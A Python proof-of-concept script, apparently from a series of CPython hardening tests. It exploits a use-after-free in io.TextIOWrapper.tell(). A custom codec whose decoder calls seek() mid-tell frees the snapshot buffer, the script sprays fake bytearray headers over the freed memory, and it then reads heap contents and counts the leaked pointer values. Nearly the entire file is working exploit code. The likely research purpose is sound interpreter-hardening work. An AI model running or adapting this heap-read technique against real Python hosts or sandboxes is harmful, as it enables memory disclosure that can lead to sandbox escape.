# family: wall (memory: TextIOWrapper.tell's snapshot freed by a seek() from its own decoder: a heap read)   goal: heapread   interpreter: /usr/bin/python3
# Of our own: the fifteenth round's ok_05 without detach() or a second __init__. tell()
# holds the bytes of its snapshot borrowed while it calls the decoder (the program's:
# a CodecInfo put in encodings._cache); a seek() from decode() clears the snapshot and
# frees them, and tell's byte loop then hands the decoder the refilled block and what
# lies past it. The wall: no call of a TextIOWrapper runs while its tell() does (a sole
# io_guard), but the flush tell makes itself (wall_guard_detach).
import io, sys
codecs = sys.modules["codecs"]
got = bytearray()
keep = []
armed = [0]
FAKE = (b"\0" * 16 + (100 + 2048).to_bytes(8, "little")).ljust(207, b"\xee")
class Dec:
    def __init__(self, errors="strict"): pass
    def decode(self, data, final=False):
        if armed[0] == 1:
            armed[0] = 2
            t.seek(0)                             # Py_CLEAR(self->snapshot): next_input freed
            for _ in range(300):
                keep.append(bytearray(FAKE))      # a 208-byte block over the freed bytes: ob_size = 2148
            return ""
        if armed[0] == 2:
            got.extend(data)                      # tell() feeds us the freed object one byte at a time
            return ""
        return bytes(data).decode("latin-1")
    def getstate(self): return (b"", 0)
    def setstate(self, st): pass
    def reset(self): pass
def search(name):
    if name == "evil":
        return codecs.CodecInfo(lambda s, e="strict": (s.encode("latin-1"), len(s)),
                                lambda b, e="strict": (bytes(b).decode("latin-1"), len(b)),
                                incrementaldecoder=Dec, name="evil")
sys.modules["encodings"]._cache["evil"] = search("evil")   # found by encodings.search_function without an import
class B:
    closed = False
    pos = 0
    def readable(self): return True
    def writable(self): return False
    def seekable(self): return True
    def flush(self): pass
    def tell(self): return self.pos
    def seek(self, p, w=0): self.pos = p; return p
    def read1(self, n):
        d = bytes([100]) * 160            # made at run time (a constant would never be freed)
        self.pos += len(d); return d
    read = read1
t = io.TextIOWrapper(B(), encoding="evil", newline="\n")
print("read:", t.read(100)[:10], flush=True)
armed[0] = 1
try:
    print("tell:", t.tell(), flush=True)
except Exception as e:
    print("tell raised", type(e).__name__, e, flush=True)
print("bytes tell() fed the decoder after the free:", len(got))
print("first 64:", bytes(got[:64]))
print("non-'d' bytes:", sum(1 for c in got if c != 0x64))
# what lies past the refilled block: the heap's own bytes (other objects, pointers)
ptrs = [int.from_bytes(got[i:i + 8], "little") for i in range(108, 2048 - 8, 8)]
print("8-byte words past the block that look like heap/binary pointers:",
      sum(1 for p in ptrs if 0x400000 <= p < 0x800000000000), "e.g.",
      [hex(p) for p in ptrs if 0x400000 <= p < 0x800000000000][:4])
if len(got) > 160:
    print("HEAP-READ", len(got), "bytes fed from the freed snapshot")
